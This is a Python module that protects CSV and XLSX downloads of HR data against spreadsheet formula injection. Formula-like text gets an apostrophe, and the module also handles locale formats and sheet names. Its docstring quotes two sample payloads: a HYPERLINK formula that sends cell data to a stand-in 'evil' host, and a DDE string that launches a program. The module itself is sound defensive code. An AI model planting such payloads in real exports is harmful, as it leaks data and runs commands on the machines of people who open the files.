"""CSV and XLSX downloads that a spreadsheet cannot mistake for formulas (CSV/formula injection).

Text in the store comes from HR exports (org units, posting ids) and ends up in downloads. Excel
and LibreOffice evaluate a cell that starts with = + - @ (or a TAB/CR before them) as a formula:
`=HYPERLINK("http://evil/?"&A1;"Klick")` leaks data on a click, `+cmd|' /C calc'!A0` runs a
program on old setups. Every export therefore goes through this module, following the OWASP
advice: such text gets a leading apostrophe, which spreadsheets show as text and never evaluate.
Real numbers stay numbers; text that is a plain negative number ("-3", "-2,5") stays as it is,
because a spreadsheet reads it as that number, never as a formula.
"""

from __future__ import annotations

import io
import math
import re
from collections.abc import Mapping
from datetime import date, datetime
from decimal import Decimal
from typing import Literal

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@")
# TAB and CR in front make some spreadsheets parse the rest as a formula (OWASP)
CONTROL_TRIGGERS = ("\t", "\r")
# "-3", "-2,5", "-1.234,5", "-12 %": read as numbers, never as formulas
_PLAIN_NEGATIVE_NUMBER = re.compile(r"\s*-\d+(?:[.,]\d+)*(?:\s?%)?\s*")
EXCEL_MAX_CELL_CHARS = 32_767
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")

Lang = Literal["de", "en"]


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet evaluate this text as a formula?"""
    if text.startswith(CONTROL_TRIGGERS):
        return True
    stripped = text.lstrip()
    if not stripped.startswith(FORMULA_TRIGGERS):
        return False
    # a lone "-" (a common placeholder) and plain negative numbers are harmless
    return stripped.strip() != "-" and not _PLAIN_NEGATIVE_NUMBER.fullmatch(text)


def neutralise_cell(value: object) -> object:
    """The value with formula-like text prefixed by an apostrophe; everything else unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def _neutralise_label(label: object) -> object:
    return neutralise_cell(label) if isinstance(label, str) else label


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell, column label and index label neutralised (labels can come
    from data too, e.g. org units as columns of a pivot)."""
    safe = df.copy()
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        safe.isetitem(position, column.map(neutralise_cell, na_action="ignore"))
    safe.columns = _safe_index(safe.columns)
    safe.index = _safe_index(safe.index)
    return safe


def _safe_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return pd.MultiIndex.from_tuples(
            [tuple(_neutralise_label(v) for v in entry) for entry in index], names=index.names
        )
    if pd.api.types.is_object_dtype(index) or pd.api.types.is_string_dtype(index):
        return pd.Index([_neutralise_label(v) for v in index], name=index.name, dtype=object)
    return index


def to_csv_bytes(df: pd.DataFrame, lang: Lang = "de", *, index: bool = False) -> bytes:
    """CSV as Excel opens it with a double click in that locale.

    German: `;`, decimal comma, dates TT.MM.JJJJ; English: `,`, decimal point, ISO dates. Both
    UTF-8 with BOM (without it Excel reads UTF-8 as Windows-1252 and garbles umlauts) and CRLF.
    A number in a column of mixed cells (a share beside the sign "•" of a withheld one) gets the
    decimal comma too: pandas gives it only to columns of numbers alone.
    """
    german = lang == "de"
    return (
        _decimal_marks(safe_frame(df), "," if german else ".")
        .to_csv(
            index=index,
            sep=";" if german else ",",
            decimal="," if german else ".",
            date_format="%d.%m.%Y" if german else "%Y-%m-%d",
            lineterminator="\r\n",
            encoding="utf-8-sig",
        )
        .encode("utf-8-sig")
    )


def _decimal_marks(df: pd.DataFrame, decimal: str) -> pd.DataFrame:
    if decimal == ".":
        return df
    marked = df.copy()
    for position in range(marked.shape[1]):
        column = marked.iloc[:, position]
        if pd.api.types.is_object_dtype(column):
            marked.isetitem(position, column.map(lambda value: _decimal_text(value, decimal)))
    return marked


def _decimal_text(value: object, decimal: str) -> object:
    """A float of a mixed column as text with the decimal mark: 10.37 -> "10,37"."""
    if isinstance(value, float | np.floating) and math.isfinite(value):
        return repr(float(value)).replace(".", decimal)
    return value


def to_xlsx_bytes(sheets: Mapping[str, pd.DataFrame], *, index: bool = False) -> bytes:
    """An XLSX workbook, one sheet per frame, bold header row.

    Every text cell is neutralised and written as a string cell (openpyxl would otherwise store
    text starting with "=" as a formula); numbers, dates and booleans keep their type; missing
    values are empty cells."""
    workbook = Workbook(write_only=True)
    used_titles: set[str] = set()
    for title, frame in sheets.items():
        sheet = workbook.create_sheet(_sheet_title(title, used_titles))
        data = safe_frame(frame.reset_index() if index else frame)
        header = []
        for label in data.columns:
            cell = _cell(sheet, label if isinstance(label, str) else _label_text(label))
            cell.font = Font(bold=True)
            header.append(cell)
        sheet.append(header)
        for row in data.itertuples(index=False, name=None):
            sheet.append([_cell(sheet, value) for value in row])
    if not sheets:
        workbook.create_sheet("Daten")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _label_text(label: object) -> str:
    if isinstance(label, tuple):
        return " / ".join(str(part) for part in label)
    return str(label)


def _cell(sheet: object, value: object) -> WriteOnlyCell:
    value = _excel_value(value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # neutralised text never starts with "="; this keeps it a string whatever it holds
        cell.data_type = "s"
    return cell


def _excel_value(value: object) -> object:
    """A value openpyxl writes faithfully: plain Python types, text neutralised and cleaned."""
    if value is None or value is pd.NaT or value is pd.NA:
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float | Decimal) and not math.isfinite(value):
        return None
    if isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, datetime):
        return value.replace(tzinfo=None)
    if isinstance(value, date):
        return value
    text = value if isinstance(value, str) else str(value)
    # control characters other than TAB/LF/CR make the file unreadable for Excel
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    text = str(neutralise_cell(text))
    return text[:EXCEL_MAX_CELL_CHARS]


def _sheet_title(title: str, used: set[str]) -> str:
    """Excel sheet names: at most 31 characters, none of []:*?/\\, unique, not empty."""
    base = _SHEET_TITLE_FORBIDDEN.sub("_", str(title)).strip("'") or "Daten"
    base = base[:31]
    candidate, number = base, 2
    while candidate.lower() in used:
        suffix = f" ({number})"
        candidate = base[: 31 - len(suffix)] + suffix
        number += 1
    used.add(candidate.lower())
    return candidate
